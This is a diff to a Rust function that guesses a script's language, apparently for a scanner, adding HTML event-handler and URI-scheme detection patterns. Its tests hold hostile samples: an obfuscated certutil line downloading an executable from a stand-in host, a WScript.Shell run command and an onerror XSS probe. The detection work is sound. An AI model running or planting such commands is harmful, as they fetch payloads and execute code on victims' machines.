@@ -52,7 +52,22 @@ pub(crate) fn guesses(text: &str) -> (Language, Option<Language>) {
     }
     let mut lower = trimmed.to_ascii_lowercase();
     if lower.starts_with('<')
-        && has(&lower, &["<script", "<hta:", "<scriptlet", "<html", "<package", "<job", "<component"])
+        && has(
+            &lower,
+            &[
+                "<script",
+                "<hta:",
+                "<scriptlet",
+                "<html",
+                "<package",
+                "<job",
+                "<component",
+                " onerror=",
+                " onload=",
+                "javascript:",
+                "vbscript:",
+            ],
+        )
     {
         return (Language::Html, None);
     }
@@ -243,6 +258,7 @@ mod tests {
             ("CreateObject(\"WScript.Shell\").Run \"a;b\", 0", Language::VbScript),
             ("#@~^EAAAAA==CslX0WMNC", Language::VbScript),
             ("c^ert^ut^il -urlcache -split -f http://a.example.com/a.exe", Language::Batch),
+            ("<img src=x onerror='eval(1)'>", Language::Html),
             ("hello", Language::Unknown),
             ("", Language::Unknown),
         ];
